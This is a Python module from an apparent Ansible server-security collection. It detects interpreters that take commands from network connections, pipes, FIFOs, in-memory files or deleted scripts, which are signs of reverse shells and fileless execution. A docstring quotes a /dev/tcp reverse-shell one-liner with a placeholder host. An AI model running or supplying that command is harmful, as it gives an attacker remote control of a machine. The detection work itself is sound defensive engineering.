# Copyright: bulwark.servers contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Interpreters whose program has no file: it came through a pipe or a connection, from memory, or from what is deleted.

Named FIFOs are streams like pipes, and what is at the other end of streams is asked over any number of programs.

Ordinary administration does much of this: "ssh HOST bash -s", Ansible's pipelining, jobs of CI, here-documents, and
installers that are piped into a shell. So most of it is told for information only. ATT&CK T1059, T1105.
"""

from __future__ import annotations

import ipaddress
import re
import stat
import typing as t

from ansible_collections.bulwark.servers.plugins.module_utils._finding import printable
from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.identity import (
    places,
    programs,
    standing,
    streams,
)
from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.identity.programs import Task
from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.identity.streams import End, Streams
from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.identity.surroundings import (
    Surroundings,
    UnknownError,
)
from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.model import Process, Sign
from ansible_collections.bulwark.servers.plugins.module_utils.memory_scan.view import Host

_STREAMS = (b"pipe:[", b"socket:[", b"/")
_STREAM = re.compile(rb"(?:pipe|socket):\[\d+\]\Z")
_DESCRIPTOR = re.compile(rb"/(?:dev|proc/(?:self|thread-self|(\d{1,10})))/fd/(\d{1,9})\Z")
_MEMORY = re.compile(rb"/memfd:.* \(deleted\)\Z", re.DOTALL)
_DELETED = b" (deleted)"
# What shells write here-documents to; it is deleted before anybody reads it.
_HERE_DOCUMENT = re.compile(rb"/(?:var/)?tmp/(?:sh-thd[.-][\w.-]+|zsh\w{6}|sf\w+|ksh[\w.]+) \(deleted\)\Z")
_SHELLS = tuple(
    b"%s/%s" % (directory, name)
    for directory in (b"/usr/bin", b"/bin")
    for name in (b"bash", b"dash", b"busybox", b"zsh", b"ksh93", b"mksh")
)
# bash keeps its script open there.
_BASH_SCRIPT = 255


def signs(process: Process, host: Host, around: Surroundings, skip: t.Callable[[str], None]) -> t.Iterator[Sign]:
    """Yield what is wrong with where an interpreter has its program from, at most one thing.

    skip: takes what could not be looked at.
    """
    spoken = programs.language(process)
    if not process.files:
        return
    if spoken is None:
        yield from _of_a_copy(process, host, around)
        return
    task = on_connection = programs.task(spoken, programs.arguments(process))
    if programs.is_titled(process) or (not process.arguments and "arguments" in process.unreadable):
        # What it was told can't be seen, or not any more.
        task, on_connection = Task(programs.SCRIPT), Task(programs.INPUT)
    targets = _targets(process)
    found = (
        _on_a_connection(process, on_connection, targets, host)
        or _over_streams(process, on_connection, host, around)
        or _from_a_descriptor(process, task, targets, host)
        or _from_input(process, task, targets, host, around)
        or _deleted_script(process, task, targets, around)
        or _with_a_connection_of_its_own(process, spoken, targets, host)
    )
    if found is not None:
        yield found
    between = streams.of(host, around)
    if process.pid in between.unfollowed and (found is None or found.subtype != "shell_on_connection"):
        skip("its streams lead to more processes than are examined")
    if any(file.descriptor == 0 and between.is_unknown(process, file) for file in process.files):
        skip("it is not known what its input is connected to: the kernel does not report the peers of sockets")


def _targets(process: Process) -> dict[int, bytes]:
    return {one.descriptor: one.target for one in process.files}


def _of_a_copy(process: Process, host: Host, around: Surroundings) -> t.Iterator[Sign]:
    """Yield that a copy of a shell, under whatever name, takes its commands from a connection."""
    task = Task(programs.INPUT)
    found = _on_a_connection(process, task, _targets(process), host) or _over_streams(process, task, host, around)
    if found is not None and _is_copy_of_a_shell(process, around):
        yield found


def _is_copy_of_a_shell(process: Process, around: Surroundings) -> bool:
    """Say whether an executable is as long as one of the host's shells, to the byte, or has most of what that has."""
    size = process.status.size if process.status is not None else 0
    for path in _SHELLS:
        try:
            shell = around.status(path)
        except UnknownError:
            continue
        if shell is None or not stat.S_ISREG(shell.st_mode):
            continue
        if shell.st_size == size or around.resembles(process, path, shell.st_size):
            return True
    return False


def is_remote(address: str) -> bool:
    """Say whether an address is another host's, as far as it says."""
    try:
        parsed = ipaddress.ip_address(address.partition("%")[0])
    except ValueError:
        return False
    mapped = getattr(parsed, "ipv4_mapped", None)
    parsed = mapped if mapped is not None else parsed
    return not (parsed.is_loopback or parsed.is_unspecified)


def _on_a_connection(process: Process, task: Task, targets: t.Mapping[int, bytes], host: Host) -> Sign | None:
    """Return what a shell is that takes its commands from a connection, and answers to it."""
    ends = [targets.get(number, b"") for number in (0, 1, 2)]
    if task.kind == programs.SCRIPT or not ends[0].startswith(b"socket:[") or ends[0] not in ends[1:]:
        return None
    number = ends[0][len(b"socket:[") : -1]
    peers = [
        one.remote
        for one in host.sockets_of(process)
        if one.remote is not None
        and str(one.inode).encode() == number
        and one.protocol.startswith(("tcp", "udp", "sctp"))
    ]
    if not peers:
        return None
    parent = host.processes.get(process.parent)
    if task.kind == programs.COMMAND and parent is not None and _input_of(parent) == ends[0]:
        # A daemon that was started for a connection has a shell run a command: both have it for input and output.
        return None
    detail = "%s takes its input from a connection with %s, port %d" % (
        _name(process),
        printable(peers[0][0]),
        peers[0][1],
    )
    return Sign("shell_on_connection", detail)


def _over_streams(process: Process, task: Task, host: Host, around: Surroundings) -> Sign | None:
    """Return what a shell is that has its commands from a connection of another program, over pipes and FIFOs.

    Automation, too, has a shell at both ends of its pipes. It doesn't do so over a FIFO with a name, as a filter beside
    the shell, or by a program that does nothing but pass on.
    """
    between = streams.of(host, around)
    files = {file.descriptor: file for file in process.files}
    commands = files.get(_commands(process, task, between))
    if commands is None or not commands.target.startswith(_STREAMS):
        return None

    def counting(ends: t.Iterable[End]) -> list[End]:
        return [end for end in ends if end.named or _passes_on(end, process, host)]

    def stops(other: Process) -> bool:
        return _asks_who_is_there(other, host, around)

    feeding = counting(between.feeding(process, commands, stops))
    answers = [files[number] for number in (1, 2) if number in files and files[number].target.startswith(_STREAMS)]
    fed = counting(end for one in answers for end in between.fed(process, one, stops))
    named = any(end.named for end in (*feeding, *fed))
    both = bool(feeding and fed)
    if not both and (not named or task.kind == programs.COMMAND or not between.is_stream(process, commands)):
        return None
    if task.kind == programs.COMMAND and not named:
        return None
    end = (feeding or fed)[0]
    detail = "%s %s process %d (%s), which has a connection with %s, port %d, over %s" % (
        _name(process),
        "takes its input from" if feeding else "gives its output to",
        end.process.pid,
        _name(end.process),
        printable(end.peer[0]),
        end.peer[1],
        "a named FIFO" if named else "streams without a name",
    )
    if process.container and end.process.container != process.container:
        # So do runtimes with what they run, and not all are a package's.
        return Sign("piped_program_connected", detail, severity="low")
    if both and task.kind != programs.COMMAND:
        return Sign("shell_on_connection", detail)
    return Sign("piped_program_connected", detail)


def _commands(process: Process, task: Task, between: Streams) -> int:
    """Return by which descriptor an interpreter has its commands: a script may be a FIFO."""
    if task.kind != programs.SCRIPT:
        return 0
    named = _DESCRIPTOR.match(task.script)
    if named and named.group(1) is None:
        return int(named.group(2))
    name = programs.base(task.script)
    for file in process.files:
        if programs.base(file.target.partition(_DELETED)[0]) == name and between.is_stream(process, file):
            return file.descriptor
    return -1


def _passes_on(end: End, process: Process, host: Host) -> bool:
    """Say whether a program has a stream where filters have them, and is none of those that the shell comes from."""
    other = end.process
    if programs.is_versatile(other) and programs.language(other) is None:
        return True
    sockets = {b"socket:[%d]" % one.inode for one in host.sockets_of(other) if streams.is_connection(one)}
    if any(file.descriptor in (0, 1) and file.target in sockets for file in other.files):
        return True
    return end.descriptor in (0, 1) and other.pid not in {
        one.pid for one in programs.ancestors(process, host.processes)
    }


def _asks_who_is_there(process: Process, host: Host, around: Surroundings) -> bool:
    """Say whether people or automation come in by a program, which is just as its package ships it."""
    path = process.executable
    if path is None or not programs.is_entrance_by_file(process) or programs.is_versatile(process):
        return False
    if standing.of(process, host, around).kind not in standing.TRUSTED:
        return False
    return not host.has_digests(path) or around.is_as_packaged(process, host)


def _from_a_descriptor(process: Process, task: Task, targets: t.Mapping[int, bytes], host: Host) -> Sign | None:
    """Return what a script is that was given as a descriptor, or is held open as one."""
    target = targets.get(0, b"") if task.kind == programs.INPUT else None
    named = _DESCRIPTOR.match(task.script) if task.kind == programs.SCRIPT else None
    if named:
        target = _target(process, named.group(1), int(named.group(2)), targets, host)
        if target is None and _BASH_SCRIPT in targets:
            target = targets[_BASH_SCRIPT]
        if target is None:
            detail = "%s runs the script %s, which isn't open any more" % (_name(process), printable(task.script))
            return Sign("interpreter_closed_script", detail)
        if _STREAM.match(target):
            return _piped(process, target, host, "through %s" % printable(task.script))
    if target is None and task.kind == programs.SCRIPT:
        target = targets.get(_BASH_SCRIPT)
    if target is not None and _MEMORY.match(target):
        detail = "%s runs a script from %s, a file in memory" % (_name(process), printable(target[:300]))
        return Sign("interpreter_from_memory", detail)
    return None


def _from_input(
    process: Process, task: Task, targets: t.Mapping[int, bytes], host: Host, around: Surroundings
) -> Sign | None:
    target = targets.get(0, b"")
    if task.kind != programs.INPUT:
        return None
    if _STREAM.match(target) or _HERE_DOCUMENT.match(target) or _is_fifo(process, host, around):
        return _piped(process, target, host, "from its input")
    if target.endswith(_DELETED) and places.is_temporary(target):
        detail = "%s runs a script from %s" % (_name(process), printable(target[:300]))
        return Sign("interpreter_deleted_script", detail)
    return None


def _is_fifo(process: Process, host: Host, around: Surroundings) -> bool:
    """Say whether the input is a FIFO with a name, which may be gone."""
    between = streams.of(host, around)
    return any(file.descriptor == 0 and between.is_stream(process, file) for file in process.files)


def _piped(process: Process, pipe: bytes, host: Host, how: str) -> Sign | None:
    """Return what a program that comes through a pipe is, by what is around it."""
    detail = "%s takes its program %s" % (_name(process), how)
    above = programs.ancestors(process, host.processes)
    explained = any(map(programs.is_entrance, above))
    downloader = _downloader(process, pipe, above, host)
    if downloader is not None:
        return Sign("interpreter_from_pipe", "%s, into which %s downloads it" % (detail, downloader), severity="low")
    connected = [
        one.remote for one in host.sockets_of(process) if one.remote is not None and one.protocol.startswith("tcp")
    ]
    remote = [one for one in connected if is_remote(one[0])]
    if connected and not explained:
        address, port = (remote or connected)[0]
        detail = "%s and is connected with %s, port %d" % (detail, printable(address), port)
        if remote:
            return Sign("piped_program_connected", detail)
        return Sign("interpreter_from_pipe", detail, severity="low")
    if explained and not connected:
        return None
    if process.parent == 1 and not process.container:
        return Sign("interpreter_from_pipe", "%s, and who started it is gone" % detail, severity="low")
    return Sign("interpreter_from_pipe", detail)


def _downloader(process: Process, pipe: bytes, above: t.Sequence[Process], host: Host) -> str | None:
    """Return the program that writes what it downloads into a pipe."""
    if above and programs.language(above[0]) is not None and programs.pipes_a_download(above[0]):
        return "a command of its parent"
    if not pipe.startswith(b"pipe:["):
        return None
    for other in host.processes.values():
        near = other.session == process.session and programs.is_downloader(other)
        if near and any(one.descriptor == 1 and one.target == pipe for one in other.files):
            return printable(other.name)
    return None


def _deleted_script(process: Process, task: Task, targets: t.Mapping[int, bytes], around: Surroundings) -> Sign | None:
    """Return what a script in a temporary place is that was deleted while it runs."""
    if task.kind != programs.SCRIPT:
        return None
    held = targets.get(_BASH_SCRIPT, b"")
    gone = held if held.endswith(_DELETED) and places.is_temporary(held) else b""
    if not gone and places.is_temporary(task.script) and not _DESCRIPTOR.match(task.script):
        try:
            other = process.pid if standing.elsewhere(process, around) else None
            gone = b"" if around.status(task.script, other) is not None else task.script
        except UnknownError:
            return None
    if not gone:
        return None
    return Sign(
        "interpreter_deleted_script",
        "%s runs a script from %s, which is gone" % (_name(process), printable(gone[:300])),
    )


def _with_a_connection_of_its_own(
    process: Process, spoken: programs.Language, targets: t.Mapping[int, bytes], host: Host
) -> Sign | None:
    """Return what a shell is that has a connection which nothing but shells has: it can read commands from that.

    "exec 5<>/dev/tcp/HOST/PORT; while read line <&5; do eval $line >&5; done". A program that starts a shell shares
    what it left open, and the shell shares its own with what it has started.
    """
    if not programs.is_shell(spoken):
        return None
    held = set(targets.values())
    for one in host.sockets_of(process):
        name = b"socket:[%d]" % one.inode
        if name not in held or one.remote is None or not one.protocol.startswith("tcp"):
            continue
        earlier = (one for one in host.processes.values() if (one.started, one.pid) <= (process.started, process.pid))
        others = (other for other in earlier if any(file.target == name for file in other.files))
        languages = (programs.language(other) for other in others)
        if all(language is not None and programs.is_shell(language) for language in languages):
            detail = "%s has a connection of its own with %s, port %d" % (
                _name(process),
                printable(one.remote[0]),
                one.remote[1],
            )
            return Sign("piped_program_connected", detail, severity="low")
    return None


def _target(
    process: Process, pid: bytes | None, number: int, targets: t.Mapping[int, bytes], host: Host
) -> bytes | None:
    """Return what a descriptor leads to that a script was named by."""
    if pid is not None and int(pid) != process.pid:
        other = host.processes.get(int(pid))
        targets = {one.descriptor: one.target for one in other.files} if other is not None else {}
    return targets.get(number)


def _input_of(process: Process) -> bytes:
    return next((one.target for one in process.files if one.descriptor == 0), b"")


def _name(process: Process) -> str:
    return printable(programs.base(process.executable))
